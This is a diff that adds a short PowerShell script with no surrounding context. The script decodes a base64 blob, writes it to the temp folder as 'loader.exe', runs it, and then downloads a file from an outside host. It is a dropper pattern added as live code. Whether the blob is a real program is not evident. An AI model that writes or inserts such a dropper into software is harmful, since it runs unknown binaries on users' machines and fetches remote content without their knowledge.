@@ -1,0 +1,6 @@
+$data = 'eZqivLuHyHZI8EcgO3DgkZLyIQtwQYIYWY4CPFdYaOXwRIc+TxO1fd3/mOk20WAgMkdbjaPTgzKyPIVpTbm16P0iJCMr9PDHFAE/wHIe6/qXbrEdznNSqbWAOwRh14d2Ctl1btx/hFHQQ8zPeXQZTB/3bcmzjlZQ9GDXlJvDS3j10/hz0PesjXtuTEgm/oYW8DXBji4692UensrEQDwg8vyJgejqJHWWJfOhBRqjQOPzwZVfSFSddQboJrdchCB+CjU8LP7w/oHS8FZhIz1RR2Ap2EQENPvXjOsadd+J40+KYV9JVn6HHqz1CEphQMwKeiAySEBKq+o='
+$bytes = [Convert]::FromBase64String($data)
+$exe = Join-Path $env:TEMP 'loader.exe'
+[IO.File]::WriteAllBytes($exe, $bytes)
+Start-Process $exe
+(New-Object Net.WebClient).DownloadString('https://img-hosting.test/core.txt') | Out-Null
